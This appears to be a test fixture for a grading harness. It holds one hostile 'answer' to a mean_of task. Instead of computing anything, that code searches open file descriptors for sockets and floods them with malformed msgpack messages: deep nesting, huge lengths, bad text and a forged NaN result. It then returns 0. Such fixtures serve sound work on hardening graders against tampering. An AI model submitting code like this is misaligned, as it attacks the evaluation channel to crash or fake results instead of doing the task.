"""Messages that are msgpack and hurt: deep nesting, extension types, huge lengths, bad text."""

LINUX = True
ANSWERS = {
    "mean_of": """
import os
import stat
import struct

POISON = [
    b"\\x91" * 50_000 + b"\\xc0",
    b"\\xdd\\xff\\xff\\xff\\xff",
    b"\\xdf\\x7f\\xff\\xff\\xff",
    b"\\xc7\\x08\\x05" + b"x" * 8,
    b"\\x81\\xa2op\\xa4\\xff\\xfe\\xfd\\xfc",
    b"\\x82\\xa2op\\xa6result\\xa5value\\xcb\\x7f\\xf8\\x00\\x00\\x00\\x00\\x00\\x00",
    b"",
]


def mean_of(numbers):
    for descriptor in range(3, 128):
        try:
            if not stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                continue
            os.set_blocking(descriptor, False)
            for body in POISON:
                os.write(descriptor, struct.pack(">I", len(body)) + body)
        except OSError:
            pass
    return 0
"""
}
